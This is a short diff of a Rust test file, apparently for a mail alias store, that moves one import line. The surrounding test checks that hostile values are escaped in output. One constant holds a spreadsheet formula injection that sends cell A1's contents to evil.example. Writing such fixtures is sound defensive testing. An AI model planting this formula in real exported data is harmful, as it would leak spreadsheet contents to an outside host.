@@ -4,12 +4,11 @@
 //! characters as escapes in the table view, `pool stats`, `alias show` and
 //! error messages that quote a value; the provider's diagnostics do the same.
 
-use testkit::azurite;
-
 use std::process::{Command, Output, Stdio};
 use std::time::Instant;
 
 use rootmail::store::{AliasPool, LegacyRow, StoreConfig};
+use testkit::azurite;
 
 /// Values as a hostile or careless writer might leave them.
 const FORMULA_OWNER: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
